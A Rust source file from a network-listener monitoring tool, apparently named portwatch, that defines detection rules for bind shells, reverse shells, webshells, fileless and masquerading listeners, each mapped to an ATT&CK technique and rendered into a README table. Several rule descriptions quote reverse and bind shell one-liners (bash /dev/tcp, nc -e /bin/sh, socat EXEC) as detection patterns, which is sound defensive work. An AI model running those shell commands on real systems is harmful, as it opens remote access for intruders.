//! The rules, each once: name, what it fires on, and each form of finding it makes (severity,
//! technique). Findings are made through these (`Findings::add`), `--no-detection` takes their
//! names, and the README's table is generated from them (`readme_table`, checked by a test), the
//! lists they know (shells, interpreters, netcats, ...) filled in from the code's own.
use std::fmt::Write as _;

use super::{
    BACKDOOR_PORTS, CLOSE_WAIT_RISES, Severity,
    disguise::{DAEMONS, INSTALLED, KERNEL_THREADS},
    interpreters::INTERPRETERS,
    place::TOOLCHAIN_DIRS,
    program::{NETCATS, SHELLS, WEB_SERVERS},
    stdio::LAUNCHERS,
};

/// A rule and the findings it makes.
pub struct Rule {
    pub name: &'static str,
    /// What it fires on, as the README says it; `{shells}`, `{interpreters}`, `{inline_flags}`,
    /// `{netcats}`, `{web_servers}`, `{kernel_threads}`, `{backdoor_ports}` and
    /// `{close_wait_rises}` stand for the code's lists.
    pub fires_on: &'static str,
    pub forms: &'static [(Severity, Technique)],
    /// How it knows what it judges (the README's "recognised by").
    pub by: By,
}

/// How a rule knows the program (or the socket) it judges.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum By {
    /// The program: by content, else by name.
    Program,
    /// The program, and the arguments it was started with.
    ProgramAndArgs,
    /// The names a process gives itself, against the program.
    Names,
    /// The executable file itself.
    Executable,
    /// Where the executable and the script are.
    Place,
    /// The socket: its port, address, other listeners, the owner's user and capabilities.
    Socket,
    /// The ancestors' programs.
    Ancestry,
    /// The standard streams of a new program, and the program.
    Stdio,
    /// The listener's health from sock_diag.
    Health,
    /// How the call was made, and the executable.
    Call,
}

impl By {
    /// The README's words for it.
    pub const fn text(self) -> &'static str {
        match self {
            Self::Program => {
                "the program: by content (a copy of a host tool under any name is that tool), else its executable's file name, else its command name; busybox by its applet"
            }
            Self::ProgramAndArgs => {
                "the program (by content, else by name; busybox by its applet) and the arguments it was started with, read as the program reads them"
            }
            Self::Names => {
                "its command name and argv[0], as they are and as started, against the program (by content, else by name) and the names the host links to its executable"
            }
            Self::Executable => {
                "the executable as the kernel holds it at the event (a memfd, no links left)"
            }
            Self::Place => {
                "the absolute paths of its executable and (an interpreter's) script, resolved in its own root and working directory, and the directory's mode there"
            }
            Self::Socket => {
                "the socket (port, address, the other listeners in its network namespace) and its owner's user and capabilities"
            }
            Self::Ancestry => "its ancestors' programs, from the process table",
            Self::Stdio => {
                "descriptors 0-2 of the new image (the exec hook), the program (by content, else by name) and its parent's"
            }
            Self::Health => "the listener's queues and connections (sock_diag)",
            Self::Call => "how the call was made (io_uring) and the executable's path",
        }
    }
}

/// A finding's MITRE ATT&CK technique.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Technique {
    Id(&'static str),
    /// The interpreter's own (`INTERPRETERS`).
    Interpreter,
    /// A health finding, not an attack technique.
    None,
}

impl Rule {
    /// Whether this rule makes a finding of `severity` and `technique`.
    pub fn makes(&self, severity: Severity, technique: Option<&str>) -> bool {
        self.forms.iter().any(|&(s, t)| {
            s == severity
                && match t {
                    Technique::Id(id) => technique == Some(id),
                    Technique::Interpreter => {
                        INTERPRETERS.iter().any(|i| Some(i.technique) == technique)
                    }
                    Technique::None => technique.is_none(),
                }
        })
    }
}

pub const SHELL_LISTENER: Rule = Rule {
    name: "shell-listener",
    fires_on: "a shell ({shells}) listening or accepting",
    forms: &[(Severity::High, Technique::Id("T1059.004"))],
    by: By::Program,
};

pub const INLINE_INTERPRETER: Rule = Rule {
    name: "inline-interpreter-listener",
    fires_on: "{interpreters} listening or accepting from a program given on its command line ({inline_flags}, or awk's first operand) or on standard input (`-`, or no script: a program piped in from a download), not from a script or a module. The command line is read as the interpreter reads it: combined short options (`python3 -Ic`, `perl -we`), values attached or apart (`-Wignore`, `-W ignore`), `--`; `python3 -m http.server`, `php -S` and `python3 app.py -c conf` stay quiet",
    forms: &[(Severity::High, Technique::Interpreter)],
    by: By::ProgramAndArgs,
};

pub const NETCAT_LISTENER: Rule = Rule {
    name: "netcat-listener",
    fires_on: "{netcats} listening, known by content (a copy under any name is still netcat) or by name, busybox's `nc` applet too; **critical** when it runs a command for its peer (`-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`, `EXEC:`, `SYSTEM:`). A socat relay (two network addresses, nothing run) is `relay-listener` instead",
    forms: &[
        (Severity::High, Technique::Id("T1571")),
        (Severity::Critical, Technique::Id("T1059")),
    ],
    by: By::ProgramAndArgs,
};

pub const RELAY_LISTENER: Rule = Rule {
    name: "relay-listener",
    fires_on: "socat listening to relay connections to another network address (`socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80`), running no program: a proxy, which may carry an attacker's traffic past the network's rules",
    forms: &[(Severity::Medium, Technique::Id("T1090"))],
    by: By::ProgramAndArgs,
};

pub const REMOTE_SHELL_TOOL: Rule = Rule {
    name: "remote-shell-tool",
    fires_on: "a listener that serves a shell, or a channel to one, and that no other rule names (GTFOBins' bind shells beyond netcat and the interpreters): `openssl s_server` (a TLS test server whose `-quiet` console a shell is piped through), a telnet server (telnetd, busybox's `telnetd` applet), **critical** when told to log its peers into a shell (`-l /bin/sh`). awk's `/inet/tcp` bind shell is an inline program (`inline-interpreter-listener`)",
    forms: &[
        (Severity::High, Technique::Id("T1573.002")),
        (Severity::High, Technique::Id("T1021")),
        (Severity::Critical, Technique::Id("T1059.004")),
    ],
    by: By::ProgramAndArgs,
};

pub const FILELESS: Rule = Rule {
    name: "fileless-listener",
    fires_on: "a listener whose executable is a memfd (in memory only) or deleted (no links left at the event: `exe_deleted`), or whose dynamic loader runs a program from a memfd or from a file deleted or replaced since it was loaded (its executable mappings say so)",
    forms: &[
        (Severity::Critical, Technique::Id("T1620")),
        (Severity::Critical, Technique::Id("T1070.004")),
    ],
    by: By::Executable,
};

pub const KERNEL_THREAD_NAME: Rule = Rule {
    name: "kernel-thread-name",
    fires_on: "a user process (it has an executable) whose command name or argv[0] (as it is and as it was started) looks like a kernel thread's: in brackets as ps shows them (`[kworker/1:2]`), or starting {kernel_threads}",
    forms: &[(Severity::High, Technique::Id("T1036.004"))],
    by: By::Names,
};

pub const MASQUERADE: Rule = Rule {
    name: "masquerade",
    fires_on: "a listener whose command name or argv[0] (as it is and as it was started: `exec -a`, `$0`, setproctitle) claims a well-known daemon ({daemons}; a process title such as `sshd: root@pts/0` claims `sshd`) while the program, known by content first, is another (a daemon's own versions and parts, `php-fpm8.2`, `sshd-session`, are itself); or a program named after one of those daemons (`~/.local/bin/sshd`) that is no copy of a program of the host's and lives outside {installed}, where packages install programs (a container's paths are its own)",
    forms: &[(Severity::High, Technique::Id("T1036.005"))],
    by: By::Names,
};

pub const SUSPICIOUS_LOCATION: Rule = Rule {
    name: "suspicious-location",
    fires_on: "a new listener whose executable, or whose interpreter's script, lives in /tmp, /var/tmp, /dev/shm or /run/user, or whose executable lives under any directory anyone may write to as the process sees it (its container's own), **high**; or in a hidden directory or is a hidden file, **medium** (not when the first hidden directory is a toolchain's: {toolchain_dirs}). Paths are read as the process resolves them (links followed, `..` undone). One level more (critical, high) when the user is root or a system account (uid below 1000, nobody)",
    forms: &[
        (Severity::High, Technique::Id("T1105")),
        (Severity::Critical, Technique::Id("T1105")),
        (Severity::Medium, Technique::Id("T1564.001")),
        (Severity::High, Technique::Id("T1564.001")),
    ],
    by: By::Place,
};

pub const BACKDOOR_PORT: Rule = Rule {
    name: "backdoor-port",
    fires_on: "a listener on a port backdoors and C2 commonly use: {backdoor_ports} (`--backdoor-port` or `[detections] backdoor_ports` sets the list)",
    forms: &[(Severity::Medium, Technique::Id("T1571"))],
    by: By::Socket,
};

pub const PRIVILEGED_PORT: Rule = Rule {
    name: "privileged-port",
    fires_on: "a non-root user (the real uid) listening or binding UDP below port 1024; the reason says how it could: `through CAP_NET_BIND_SERVICE` (its effective capabilities, read from `/proc/PID/status` as the record is made), else through its network namespace's `net.ipv4.ip_unprivileged_port_start` (container runtimes lower it), or that it is unknown because the process was already gone",
    forms: &[(Severity::Medium, Technique::Id("T1548"))],
    by: By::Socket,
};

pub const REUSEPORT_HIJACK: Rule = Rule {
    name: "reuseport-hijack",
    fires_on: "a TCP listener on an address and port that another executable, or another user, already listens on: only SO_REUSEPORT lets a second socket listen there, and the kernel then hands it a share of the connections. Workers of one server (same executable, same user) stay quiet. Not judged for UDP, where SO_REUSEADDR also shares a port (mDNS, DHCP clients): a record cannot tell those from a hijack, so UDP sharing is only named in `shared_with`",
    forms: &[(Severity::High, Technique::Id("T1557"))],
    by: By::Socket,
};

pub const WEBSHELL: Rule = Rule {
    name: "webshell",
    fires_on: "a shell, or an interpreter running an inline program, listening, accepting or started on a socket, with a web server among its ancestors ({web_servers}; a version suffix such as `php-fpm8.2` counts), named with its pid in the reason. The ancestors come from the process table, so they are judged whether or not `--ancestry` writes them. A service the web server runs (`python3 -m http.server` under nginx) stays quiet",
    forms: &[(Severity::Critical, Technique::Id("T1505.003"))],
    by: By::Ancestry,
};

pub const SOCKET_STDIO: Rule = Rule {
    name: "socket-stdio",
    fires_on: "a program exec'd with an IPv4/IPv6 socket as stdin, stdout or stderr: what a reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, python's `os.dup2(s.fileno(), 0..2)` then `subprocess.call([\"/bin/sh\",\"-i\"])`) and a bind shell (`nc.traditional -l -e /bin/sh`, `socat TCP-LISTEN:P EXEC:/bin/sh,nofork`) start with. The exec hook reads descriptors 0-2 of the new image (after close-on-exec), so no syscall more is traced. It makes an `exec` record; the first exec on a socket is judged, and later ones on the same socket (what the shell runs) are reported with `session` and judged again only if worse. Critical for a shell, high for an interpreter, medium otherwise; quiet for a server's own per-connection process (sshd re-executing itself, or its `sshd-session`: the parent's program, or one named after it) and for a service an inetd-style launcher started per connection (its parent {launchers}; systemd for `Accept=yes` units), unless what runs is a shell or an interpreter. Unix sockets (journald's stdout, socketpairs) and pipes are not IP sockets and stay quiet; so does a shell behind a relay that gives it a socketpair, pipes or a pty (socat's default `EXEC:`, `mkfifo` pipelines, python's `pty.spawn`): there the relay's `netcat-listener` finding, or nothing for an outbound relay, is what remains",
    forms: &[
        (Severity::Critical, Technique::Id("T1059.004")),
        (Severity::High, Technique::Interpreter),
        (Severity::Medium, Technique::Id("T1059")),
    ],
    by: By::Stdio,
};

pub const ACCEPT_QUEUE_OVERFLOW: Rule = Rule {
    name: "accept-queue-overflow",
    fires_on: "with `watch --stats`: a TCP listener dropped connection attempts since its last stats record (its `drops`, the kernel's sk_drops, rose) because its accept queue was full: a program that does not accept(2) as fast as connections come, or a SYN or connection flood. On every interval with new drops",
    forms: &[(Severity::Medium, Technique::Id("T1499.002"))],
    by: By::Health,
};

pub const CLOSE_WAIT_GROWING: Rule = Rule {
    name: "close-wait-growing",
    fires_on: "with `watch --stats`: a TCP listener's connections in CLOSE_WAIT (peer closed, program did not) rose at {close_wait_rises} stats records without a fall in between (equal counts do not break the run): a descriptor leak, the quiet way a service runs out of files. Once per run; a fall re-arms it",
    forms: &[(Severity::Medium, Technique::None)],
    by: By::Health,
};

pub const IO_URING_LISTENER: Rule = Rule {
    name: "io-uring-listener",
    fires_on: "a listen, UDP bind or accept made through io_uring (`via: io_uring`), which monitors hooking syscalls do not see, by an executable not on the allowlist (`--uring-allow EXE`, repeatable, or `[detections] uring_allow`: a path names one executable, a file name any path). The allowlist is empty by default: on a host where nothing serves through io_uring, the first one is news",
    forms: &[(Severity::Medium, Technique::Id("T1562.006"))],
    by: By::Call,
};

/// Every rule, in the README's order.
pub const RULES: [&Rule; 17] = [
    &SHELL_LISTENER,
    &INLINE_INTERPRETER,
    &NETCAT_LISTENER,
    &RELAY_LISTENER,
    &REMOTE_SHELL_TOOL,
    &FILELESS,
    &KERNEL_THREAD_NAME,
    &MASQUERADE,
    &SUSPICIOUS_LOCATION,
    &BACKDOOR_PORT,
    &PRIVILEGED_PORT,
    &REUSEPORT_HIJACK,
    &WEBSHELL,
    &SOCKET_STDIO,
    &ACCEPT_QUEUE_OVERFLOW,
    &CLOSE_WAIT_GROWING,
    &IO_URING_LISTENER,
];

/// "a, b or c".
fn either(items: &[String]) -> String {
    match items {
        [] => String::new(),
        [one] => one.clone(),
        [rest @ .., last] => format!("{} or {last}", rest.join(", ")),
    }
}

fn quoted(items: impl IntoIterator<Item = impl AsRef<str>>) -> Vec<String> {
    items
        .into_iter()
        .map(|i| format!("`{}`", i.as_ref()))
        .collect()
}

/// What a rule fires on, its lists filled in.
fn fires_on(rule: &Rule) -> String {
    let mut flags: Vec<String> = Vec::new();
    for i in &INTERPRETERS {
        let short = i.syntax.inline.iter().map(|c| format!("-{c}"));
        let long = i.syntax.inline_long.iter().map(|l| format!("--{l}"));
        for f in short.chain(long) {
            if !flags.contains(&f) {
                flags.push(f);
            }
        }
    }
    let interpreters: Vec<String> = INTERPRETERS.iter().map(|i| i.family.to_owned()).collect();
    let ports: Vec<String> = BACKDOOR_PORTS.iter().map(u16::to_string).collect();
    rule.fires_on
        .replace("{shells}", &SHELLS.join(", "))
        .replace("{interpreters}", &either(&interpreters))
        .replace("{inline_flags}", &quoted(flags).join(", "))
        .replace("{netcats}", &either(&quoted(NETCATS)))
        .replace("{web_servers}", &WEB_SERVERS.join(", "))
        .replace("{kernel_threads}", &either(&quoted(KERNEL_THREADS)))
        .replace("{daemons}", &DAEMONS.join(", "))
        .replace("{installed}", &quoted(INSTALLED).join(", "))
        .replace("{launchers}", &either(&quoted(LAUNCHERS)))
        .replace("{toolchain_dirs}", &quoted(TOOLCHAIN_DIRS).join(", "))
        .replace("{backdoor_ports}", &ports.join(", "))
        .replace("{close_wait_rises}", &CLOSE_WAIT_RISES.to_string())
}

/// The technique column: each form's, once.
fn techniques(rule: &Rule) -> String {
    let mut out: Vec<String> = Vec::new();
    for &(_, t) in rule.forms {
        let text = match t {
            Technique::Id(id) => id.to_owned(),
            Technique::Interpreter => {
                let mut by: Vec<(&str, Vec<&str>)> = Vec::new();
                for i in &INTERPRETERS {
                    match by.iter_mut().find(|(t, _)| *t == i.technique) {
                        Some((_, families)) => families.push(i.family),
                        None => by.push((i.technique, vec![i.family])),
                    }
                }
                let parts: Vec<String> = by
                    .iter()
                    .map(|(t, f)| format!("{t} ({})", f.join(", ")))
                    .collect();
                format!("the interpreter's: {}", parts.join(", "))
            }
            Technique::None => {
                "none: a health finding, not an attack technique (no `technique` member)".into()
            }
        };
        if !out.contains(&text) {
            out.push(text);
        }
    }
    out.join(" / ")
}

/// The README's table of rules.
pub fn readme_table() -> String {
    let mut t = String::from(
        "| name | fires on | recognised by | severity | technique |\n|---|---|---|---|---|\n",
    );
    for rule in RULES {
        let mut severities: Vec<&str> = Vec::new();
        for (s, _) in rule.forms {
            let name = s.name();
            if !severities.contains(&name) {
                severities.push(name);
            }
        }
        let _ = writeln!(
            t,
            "| `{}` | {} | {} | {} | {} |",
            rule.name,
            fires_on(rule),
            rule.by.text(),
            severities.join(" / "),
            techniques(rule)
        );
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    const README: &str = include_str!("../../../../README.md");
    const README_PATH: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../README.md");
    const START: &str = "-->\n";
    const END: &str = "<!-- /rules -->";

    /// The README's detections table is this table: `PORTWATCH_BLESS=1` rewrites it.
    #[test]
    fn the_readme_table_is_generated_from_the_rules() {
        let open = README
            .find("<!-- rules:")
            .expect("the README's rules marker");
        let from = open + README[open..].find(START).unwrap() + START.len();
        let to = README.find(END).expect("the README's end-of-rules marker");
        let want = readme_table();
        if std::env::var_os("PORTWATCH_BLESS").is_some() {
            let text = format!("{}{want}{}", &README[..from], &README[to..]);
            std::fs::write(README_PATH, text).unwrap();
            return;
        }
        assert_eq!(
            &README[from..to],
            want,
            "the README's detections table differs from judge/rules/table.rs"
        );
    }

    /// The output schema's list of detection names is the rule table's.
    #[test]
    fn the_schema_names_every_rule_and_no_other() {
        const SCHEMA: &str = include_str!("../../../../schema/portwatch.schema.json");
        fn find(v: &serde_json::Value) -> Option<Vec<String>> {
            match v {
                serde_json::Value::Object(m) => {
                    let names = m.get("enum").and_then(|e| e.as_array());
                    if let Some(e) = names.filter(|e| e.iter().any(|n| n == "shell-listener")) {
                        return Some(
                            e.iter()
                                .filter_map(|n| n.as_str())
                                .map(Into::into)
                                .collect(),
                        );
                    }
                    m.values().find_map(find)
                }
                serde_json::Value::Array(a) => a.iter().find_map(find),
                _ => None,
            }
        }
        let schema: serde_json::Value = serde_json::from_str(SCHEMA).unwrap();
        let mut listed = find(&schema).expect("the schema's detection names");
        let mut rules: Vec<String> = RULES.iter().map(|r| r.name.to_owned()).collect();
        listed.sort();
        rules.sort();
        assert_eq!(
            listed, rules,
            "schema/portwatch.schema.json's detection names"
        );
    }

    #[test]
    fn names_are_unique_and_every_form_is_distinct() {
        for (i, r) in RULES.iter().enumerate() {
            assert!(
                RULES[..i].iter().all(|o| o.name != r.name),
                "{} twice",
                r.name
            );
            assert!(!r.forms.is_empty(), "{} makes no finding", r.name);
        }
    }
}
